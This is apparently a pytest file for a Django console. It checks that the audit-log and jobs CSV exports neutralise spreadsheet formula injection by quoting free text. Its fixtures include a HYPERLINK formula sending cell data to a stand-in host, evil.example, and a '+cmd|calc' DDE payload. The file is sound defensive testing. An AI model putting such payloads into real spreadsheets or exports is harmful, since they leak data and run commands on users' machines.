"""The console's CSV exports (the audit log, the jobs list) are spreadsheet-safe: free text that starts
a formula gets a quote in front; numbers stay numbers."""

import csv
import io

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from portal.console import audit
from scheduling.models import Job

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_the_audit_csv_neutralises_free_text(admin_client, operator):
    audit.record(operator, "change", target_type_name="scheduling.queue", target_id="-1", target_repr="+cmd|calc",
                 message=EVIL)
    response = admin_client.get("/console/audit/export.csv")
    (row,) = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert (row["message"], row["target"], row["target_id"]) == ("'" + EVIL, "'+cmd|calc", "'-1")


def test_the_jobs_csv_neutralises_free_text_and_keeps_numbers(cluster, submit):
    job = submit(cluster, "vision-train")
    Job.objects.filter(pk=job.pk).update(name="@SUM(1+1)", priority=7, pending_reason="-rm everything")
    client = AsyncClient()
    client.force_login(cluster.admin)

    async def fetch():
        response = await client.get("/console/jobs/export.csv")
        return b"".join([chunk async for chunk in response.streaming_content])

    (row,) = list(csv.DictReader(io.StringIO(async_to_sync(fetch)().decode())))
    assert (row["name"], row["pending_reason"]) == ("'@SUM(1+1)", "'-rm everything")
    assert row["priority"] == "7" and row["id"] == str(job.pk)
